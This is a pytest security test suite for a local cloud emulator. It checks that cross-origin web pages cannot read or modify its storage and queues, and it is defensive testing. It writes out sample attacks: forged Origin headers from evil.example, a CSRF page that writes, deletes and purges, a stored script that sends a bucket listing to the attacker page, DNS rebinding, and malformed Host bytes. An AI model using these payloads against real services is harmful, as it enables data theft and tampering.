"""A web page that a developer visits can neither read nor change the embedded cloud, even if it knows the access key."""
import datetime
import html
import json
import socket
import urllib.parse

import pytest
from botocore.auth import SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

import harness
from browser import needs_browser, visit
from harness import REGION, depth, error_code, http, queue_arn, until

EVIL = "http://evil.example"


def signed_query(cloud, service="sqs", host=None, **parameters):
    """A URL that calls an operation by a plain navigation."""
    url = f"{cloud.endpoint if not host else cloud.endpoint.replace('127.0.0.1', host)}/?{urllib.parse.urlencode(parameters)}"
    request = AWSRequest("GET", url)
    SigV4QueryAuth(Credentials(harness.ACCESS_KEY, harness.SECRET_KEY), service, REGION, expires=300).add_auth(request)
    return request.url


@pytest.fixture
def kept(s3, bucket):
    s3.put_object(Bucket=bucket, Key="k", Body=b"kept", ContentType="text/plain")
    return bucket


# ---- by the headers that browsers send ----

@pytest.mark.parametrize("headers", [
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"}, {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors"},
    {"Origin": EVIL}, {"Origin": "null"}, {"Origin": "http://127.0.0.1"}, {"Origin": "https://127.0.0.1:{port}"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Origin": EVIL}, {"Sec-Fetch-Site": "same-origin", "Origin": EVIL}],
    ids=lambda headers: "-".join(headers.values()))
def test_a_write_by_a_page_of_another_origin_is_refused(cloud, s3, kept, headers):
    headers = {name: value.replace("{port}", cloud.endpoint.rpartition(":")[2]) for name, value in headers.items()}
    for operation, method in (("put_object", "PUT"), ("delete_object", "DELETE")):
        url = s3.generate_presigned_url(operation, {"Bucket": kept, "Key": "k"})
        status, _, body = http(url, method, b"evil" if method == "PUT" else None, **headers)
        assert status == 403 and b"AccessDenied" in body and b"CORS" in body
    assert s3.get_object(Bucket=kept, Key="k")["Body"].read() == b"kept"


@pytest.mark.parametrize("headers", [{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"},
                                     {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}, {"Origin": EVIL}],
                         ids=lambda headers: "-".join(headers.values()))
@pytest.mark.parametrize("service, parameters", [("sqs", {"Action": "PurgeQueue"}), ("sns", {"Action": "CreateTopic", "Name": "evil"}),
                                                 ("sts", {"Action": "GetSessionToken"})])
def test_the_other_services_answer_no_page(cloud, sqs, sns, queue, headers, service, parameters):
    sqs.send_message(QueueUrl=queue, MessageBody="kept")
    if service == "sqs":
        parameters = dict(parameters, QueueUrl=queue)
    status, _, body = http(signed_query(cloud, service, **parameters), **headers)
    assert status == 403 and b"AccessDenied" in body
    assert depth(sqs, queue)[0] >= 1
    assert not [topic for topic in sns.list_topics()["Topics"] if topic["TopicArn"].endswith(":evil")]


def test_unsigned_forms_of_a_page_are_refused(cloud):
    form = urllib.parse.urlencode({"Action": "AssumeRoleWithWebIdentity", "RoleArn": "arn:aws:iam::000000000000:role/a",
                                   "RoleSessionName": "a", "WebIdentityToken": "a.b.c", "Version": "2011-06-15"}).encode()
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Origin": EVIL}
    status, _, body = http(cloud.endpoint, "POST", form, **headers)
    assert status == 403 and b"AccessDenied" in body


def test_the_rules_of_a_bucket_allow_a_page(cloud, s3, kept):
    s3.put_bucket_cors(Bucket=kept, CORSConfiguration={"CORSRules": [{"AllowedOrigins": ["http://app.example"], "AllowedMethods": ["PUT"]}]})
    put, delete = (s3.generate_presigned_url(operation, {"Bucket": kept, "Key": "k"}) for operation in ("put_object", "delete_object"))
    app = {"Origin": "http://app.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"}
    assert http(put, "PUT", b"by the page", **app)[0] == 200
    assert http(delete, "DELETE", **app)[0] == 403
    assert http(put, "PUT", b"evil", **dict(app, Origin=EVIL))[0] == 403
    assert s3.get_object(Bucket=kept, Key="k")["Body"].read() == b"by the page"


@pytest.mark.parametrize("headers", [{}, {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate"}, {"Origin": "{endpoint}"},
                                     {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"},
                                     {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}],
                         ids=lambda headers: "-".join(headers.values()) or "none")
def test_links_and_images_work_as_in_s3(cloud, s3, kept, headers):
    """A mail or another page may contain a presigned link: what is shown can't be read by that page."""
    url = s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "k"})
    status, _, body = http(url, **{name: value.replace("{endpoint}", cloud.endpoint) for name, value in headers.items()})
    assert (status, body) == (200, b"kept")


@pytest.mark.parametrize("headers", [{"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "none"}, {"Accept": "text/html,*/*"}],
                         ids=lambda headers: "-".join(headers.values()))
def test_what_a_browser_displays_is_in_a_sandbox(cloud, s3, kept, headers):
    for url in (s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "k"}), s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "-"}),
                s3.generate_presigned_url("list_objects_v2", {"Bucket": kept}), cloud.endpoint + "/"):
        _, received, _ = http(url, **headers)
        assert received["Content-Security-Policy"] == "sandbox" and received["X-Content-Type-Options"] == "nosniff"
    _, received, _ = http(s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "k"}))
    assert received["Content-Security-Policy"] is None


@pytest.mark.parametrize("host, served", [
    ("127.0.0.1", True), ("localhost", True), ("LOCALHOST.", True), ("photos.localhost", True), ("photos.s3.localhost", True), ("[::1]", True),
    ("192.0.2.7", True), ("evil.example", False), ("localhost.evil.example", False), ("127.0.0.1.evil.example", False), ("notlocalhost", False),
    ("a", False)])
def test_only_names_of_this_machine_are_hosts(cloud, host, served):
    port = cloud.endpoint.rpartition(":")[2]
    for name in (host, f"{host}:{port}"):
        status, _, body = http(cloud.endpoint + "/", Host=name)
        assert status == 403 and (b"is not one of this server's" in body) != served, body


@pytest.mark.parametrize("target", ["AmazonSQS.ListQueues", None])
def test_a_host_of_any_bytes_is_refused(cloud, target):
    url = urllib.parse.urlsplit(cloud.endpoint)
    extra = f"X-Amz-Target: {target}\r\n" if target else ""
    with socket.create_connection((url.hostname, url.port), timeout=30) as connection:
        connection.sendall(b"POST / HTTP/1.1\r\nHost: \xff\xfe<evil>\r\nContent-Length: 0\r\nConnection: close\r\n" + extra.encode() + b"\r\n")
        response = b"".join(iter(lambda: connection.recv(4096), b""))
    assert response.startswith(b"HTTP/1.1 403 ") and b"AccessDenied" in response


@pytest.mark.parametrize("target", ["AmazonSQS.ListQueues", None])
def test_a_service_of_any_bytes_is_refused(cloud, target):
    url = urllib.parse.urlsplit(cloud.endpoint)
    now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    lines = ["POST / HTTP/1.1", f"Host: {url.netloc}", "Content-Length: 0", "Connection: close", f"X-Amz-Date: {now}",
             f"Authorization: AWS4-HMAC-SHA256 Credential={harness.ACCESS_KEY}/{now[:8]}/{REGION}/s\xffqs/aws4_request, "
             f"SignedHeaders=host;x-amz-date, Signature={'0' * 64}", *([f"X-Amz-Target: {target}"] if target else [])]
    with socket.create_connection((url.hostname, url.port), timeout=30) as connection:
        connection.sendall("\r\n".join([*lines, "", ""]).encode("latin-1"))
        response = b"".join(iter(lambda: connection.recv(4096), b""))
    assert response.startswith(b"HTTP/1.1 501 ") and b"s?qs" in response, response


def test_host_name_adds_names(start_cloud):
    cloud = start_cloud("--host-name", "cloud,s3.example.com")
    for host, served in (("cloud", True), ("s3.example.com", True), ("photos.s3.example.com", True), ("example.com", False), ("xcloud", False)):
        _, _, body = http(cloud.endpoint + "/", Host=host)
        assert (b"is not one of this server's" in body) != served, (host, body)
        assert served or f"--host-name and that name".encode() in body


# ---- in a browser ----

@needs_browser
def test_an_attack_by_a_page_changes_nothing(cloud, s3, sqs, kept, queue, site, tmp_path):
    """The page stores HTML by a form, by fetch and by an image, purges a queue, and opens what it stored."""
    sqs.send_message(QueueUrl=queue, MessageBody="kept")
    s3.put_object(Bucket=kept, Key="stored.html", ContentType="text/html", Body=f"""<script>
        fetch('{s3.generate_presigned_url('list_buckets')}').then(r => r.text()).then(t => fetch('{site.origin}/report/read?' + encodeURIComponent(t)));
        fetch('{site.origin}/report/script');</script>""".encode())
    form = s3.generate_presigned_post(kept, "form.html")
    fields = "".join(f'<input name="{html.escape(name)}" value="{html.escape(value)}">' for name, value in form["fields"].items())
    put = s3.generate_presigned_url("put_object", {"Bucket": kept, "Key": "put.html"})
    purge = signed_query(cloud, Action="PurgeQueue", QueueUrl=queue)
    opened = s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "stored.html"})
    site.pages["/"] = f"""<!doctype html><title>harmless</title>
        <form id=f action="{form['url']}" method=post enctype=multipart/form-data target=a>{fields}<input name=file value="evil"></form>
        <iframe name=a></iframe><iframe src="{opened}"></iframe><img src="{html.escape(purge)}"><iframe src="{html.escape(purge)}"></iframe>
        <script>
        document.getElementById('f').submit();
        const put = {json.dumps(put)}, deleted = {json.dumps(s3.generate_presigned_url('delete_object', {'Bucket': kept, 'Key': 'k'}))};
        Promise.allSettled([fetch(put, {{method: 'PUT', body: 'evil'}}), fetch(put, {{method: 'PUT', mode: 'no-cors', body: 'evil'}}),
                            fetch(deleted, {{method: 'DELETE'}}), fetch({json.dumps(opened)}).then(r => r.text())])
            .then(results => fetch('/report/done?' + results.map(r => r.status)));
        </script>"""
    visit(site.origin + "/", tmp_path)
    until(lambda: any(path.startswith("/report/done") for path in site.reports), "the page's end")
    assert site.reports == ["/report/done?rejected,rejected,rejected,rejected"]
    assert sorted(entry["Key"] for entry in s3.list_objects_v2(Bucket=kept)["Contents"]) == ["k", "stored.html"]
    assert depth(sqs, queue)[0] == 1
    assert cloud.requests("GetObject", key="stored.html", status=200), "the browser never opened the page"


@needs_browser
def test_a_page_that_rebinds_its_name_is_refused(cloud, s3, kept, site, tmp_path):
    """evil.example is first the page's server and then this cloud: to the browser they have one origin."""
    port = cloud.endpoint.rpartition(":")[2]
    for host, served in (("evil.example", False), ("localhost", True)):
        url = s3.generate_presigned_url("get_object", {"Bucket": kept, "Key": "k"}).replace("127.0.0.1", host)
        seen = visit(url, tmp_path / host, f"--host-resolver-rules=MAP evil.example 127.0.0.1")
        assert ("is not one of this server" in seen) != served, seen
        assert "kept" not in seen
    assert port


@needs_browser
def test_an_image_of_another_page_is_shown(s3, bucket, site, tmp_path):
    s3.put_object(Bucket=bucket, Key="p.png", Body=harness.png(40, 30), ContentType="image/png")
    url = s3.generate_presigned_url("get_object", {"Bucket": bucket, "Key": "p.png"})
    site.pages["/"] = f"<img src='{url}' onload=\"fetch('/report/' + this.naturalWidth)\">"
    visit(site.origin + "/", tmp_path)
    until(lambda: site.reports, "the image")
    assert site.reports == ["/report/40"]
